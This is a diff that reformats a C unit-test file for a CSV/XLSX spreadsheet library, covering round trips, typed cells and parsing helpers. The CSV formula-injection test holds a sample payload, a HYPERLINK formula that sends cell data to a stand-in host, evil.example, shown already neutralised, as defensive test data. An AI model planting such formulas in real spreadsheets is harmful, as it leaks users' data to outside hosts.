@@ -10,10 +10,18 @@
 /* ------------------------------------------------------------------- CSV */
 
 static const char *const sample_cells[] = {
-    "姓名",         "单位",           "建议内容",
-    "张三",         "县人大常委会",   "关于加快\"乡村振兴\"的建议",
-    "Li, Si",       "",               "line one\nline two\r\nline three",
-    "=SUM(A1:A2)",  "  spaced  ",     "\"quoted\"",
+    "姓名",
+    "单位",
+    "建议内容",
+    "张三",
+    "县人大常委会",
+    "关于加快\"乡村振兴\"的建议",
+    "Li, Si",
+    "",
+    "line one\nline two\r\nline three",
+    "=SUM(A1:A2)",
+    "  spaced  ",
+    "\"quoted\"",
 };
 
 static void test_csv_round_trip(void **state) {
@@ -206,8 +214,8 @@ static tab_sheet sheet_of(arena *a, const char *name, int nrows, int ncols, cons
 }
 
 /* One row of every kind of cell, and what each reads back as. */
-static const char *const typed_header[] = {"文本", "整数", "金额", "日期", "是否", "空", "大整数",
-                                           "负数文本"};
+static const char *const typed_header[] = {"文本", "整数", "金额",   "日期",
+                                           "是否", "空",   "大整数", "负数文本"};
 enum { TYPED_COLS = COUNT(typed_header) };
 
 static void typed_row(tab_cell *row, int i) {
@@ -282,7 +290,8 @@ static void test_typed_csv_round_trip(void **state) {
     assert_memory_equal(out.data, "\xEF\xBB\xBF", 3);
     /* text "=1+1" and "-5" neutralised; -7 + 2000 a number, money exact, the date,
      * 否, the empty cell, all 19 digits of the big integer */
-    assert_non_null(strstr(out.data, "\r\n县人大常委会,993,0.07,2024-02-29,是,,1234567890123456789,'-5\r\n"));
+    assert_non_null(
+        strstr(out.data, "\r\n县人大常委会,993,0.07,2024-02-29,是,,1234567890123456789,'-5\r\n"));
     assert_non_null(strstr(out.data, "\r\n'=1+1,1993,99999999.99,1999-12-31,否,,"));
     assert_non_null(strstr(out.data, "\r\n县人大常委会,2993,-0.01,"));
     assert_non_null(strstr(out.data, ",1234567890123.45,"));
@@ -321,7 +330,9 @@ static void test_typed_xlsx_round_trip(void **state) {
     char *styles = zip_part(&out, "xl/styles.xml");
     assert_non_null(strstr(sheet, "<c r=\"D2\" s=\"")); /* 2024-02-29 is serial 45351 */
     assert_non_null(strstr(sheet, "<v>45351</v>"));
-    assert_non_null(strstr(sheet, "<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"));
+    assert_non_null(strstr(
+        sheet,
+        "<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"));
     assert_non_null(strstr(styles, "formatCode=\"yyyy-mm-dd\""));
     assert_non_null(strstr(styles, "formatCode=\"0.00\""));
     assert_non_null(strstr(styles, "<b/>"));
@@ -340,7 +351,10 @@ static void test_typed_xlsx_in_openpyxl(void **state) {
     static const char *const kinds[] = {"是", "否"};
     const tab_list lists[] = {
         {.col = 4, .values = kinds, .nvalues = 2, .prompt = "选择是或否"},
-        {.col = 0, .source_sheet = "可选值", .source_col = 0, .source_first_row = 1,
+        {.col = 0,
+         .source_sheet = "可选值",
+         .source_col = 0,
+         .source_first_row = 1,
          .source_last_row = 3},
     };
     sheets[0].lists = lists;
@@ -484,7 +498,10 @@ static void test_csv_formula_rule(void **state) {
     buf_init(&out, TEST_BUF_MAX);
     err e;
     assert_int_equal(tab_write_csv(&s, &out, &e), RC_OK);
-    assert_non_null(strstr(out.data, "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A2,\"\"详情\"\")\",'+1,'-1,'@SUM(1),'\tTAB 开头,\"'\rCR 开头\",''=already quoted,'''+two quotes,'just a quote,',普通 = 文本,1-2,,-1,-2.50\r\n"));
+    assert_non_null(strstr(
+        out.data, "\"'=HYPERLINK(\"\"http://evil.example/"
+                  "\"\"&A2,\"\"详情\"\")\",'+1,'-1,'@SUM(1),'\tTAB 开头,\"'\rCR 开头\",''=already "
+                  "quoted,'''+two quotes,'just a quote,',普通 = 文本,1-2,,-1,-2.50\r\n"));
 
     /* the C reader undoes it: every text comes back as it was */
     tab_sheet back;
@@ -522,8 +539,8 @@ static void test_parse_helpers(void **state) {
         const char *s;
         bool ok, value;
     } bools[] = {
-        {"是", true, true},    {"否", true, false},    {"TRUE", true, true}, {"false", true, false},
-        {"1", true, true},     {"0", true, false},     {"", false, false},   {"yes", false, false},
+        {"是", true, true},    {"否", true, false}, {"TRUE", true, true}, {"false", true, false},
+        {"1", true, true},     {"0", true, false},  {"", false, false},   {"yes", false, false},
         {"是 ", false, false}, {"2", false, false},
     };
     for (size_t i = 0; i < COUNT(bools); i++) {
@@ -538,10 +555,18 @@ static void test_parse_helpers(void **state) {
         bool ok;
         long long units;
     } decimals[] = {
-        {"12.3", 2, true, 1230},   {"12.30", 2, true, 1230},  {"-0.07", 2, true, -7},
-        {"7", 2, true, 700},       {"7", 0, true, 7},         {"12.345", 2, false, 0},
-        {"12.", 2, false, 0},      {".5", 2, false, 0},       {"1e3", 2, false, 0},
-        {"", 2, false, 0},         {"-", 2, false, 0},        {"1,000", 2, false, 0},
+        {"12.3", 2, true, 1230},
+        {"12.30", 2, true, 1230},
+        {"-0.07", 2, true, -7},
+        {"7", 2, true, 700},
+        {"7", 0, true, 7},
+        {"12.345", 2, false, 0},
+        {"12.", 2, false, 0},
+        {".5", 2, false, 0},
+        {"1e3", 2, false, 0},
+        {"", 2, false, 0},
+        {"-", 2, false, 0},
+        {"1,000", 2, false, 0},
         {"92233720368547758.07", 2, true, 9223372036854775807LL},
         {"92233720368547758.08", 2, false, 0},
         {"1", TAB_SCALE_MAX + 1, false, 0},
@@ -596,8 +621,8 @@ static void test_xlsx_values(void **state) {
         xlsx_fmt kind;
     } formats[] = {
         {"yyyy-mm-dd", XLSX_FMT_DATE},
-        {"YYYY\\-MM\\-DD", XLSX_FMT_DATE},               /* LibreOffice */
-        {"yyyy\"年\"m\"月\"d\"日\"", XLSX_FMT_DATE},    /* WPS, Excel zh-CN */
+        {"YYYY\\-MM\\-DD", XLSX_FMT_DATE},           /* LibreOffice */
+        {"yyyy\"年\"m\"月\"d\"日\"", XLSX_FMT_DATE}, /* WPS, Excel zh-CN */
         {"[$-804]yyyy年m月d日 dddd", XLSX_FMT_DATE},
         {"[DBNum1][$-804]yyyy\"年\"m\"月\"d\"日\"", XLSX_FMT_DATE},
         {"mmm-yy", XLSX_FMT_DATE},
@@ -661,18 +686,12 @@ static void test_xlsx_values(void **state) {
 
 int main(void) {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_csv_round_trip),
-        cmocka_unit_test(test_csv_read_forms),
-        cmocka_unit_test(test_csv_malformed),
-        cmocka_unit_test(test_xlsx_round_trip),
-        cmocka_unit_test(test_xlsx_garbage),
-        cmocka_unit_test(test_typed_csv_round_trip),
-        cmocka_unit_test(test_typed_xlsx_round_trip),
-        cmocka_unit_test(test_typed_xlsx_in_openpyxl),
-        cmocka_unit_test(test_xlsx_writer_refusals),
-        cmocka_unit_test(test_xlsx_large_workbook),
-        cmocka_unit_test(test_csv_formula_rule),
-        cmocka_unit_test(test_parse_helpers),
+        cmocka_unit_test(test_csv_round_trip),        cmocka_unit_test(test_csv_read_forms),
+        cmocka_unit_test(test_csv_malformed),         cmocka_unit_test(test_xlsx_round_trip),
+        cmocka_unit_test(test_xlsx_garbage),          cmocka_unit_test(test_typed_csv_round_trip),
+        cmocka_unit_test(test_typed_xlsx_round_trip), cmocka_unit_test(test_typed_xlsx_in_openpyxl),
+        cmocka_unit_test(test_xlsx_writer_refusals),  cmocka_unit_test(test_xlsx_large_workbook),
+        cmocka_unit_test(test_csv_formula_rule),      cmocka_unit_test(test_parse_helpers),
         cmocka_unit_test(test_xlsx_values),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
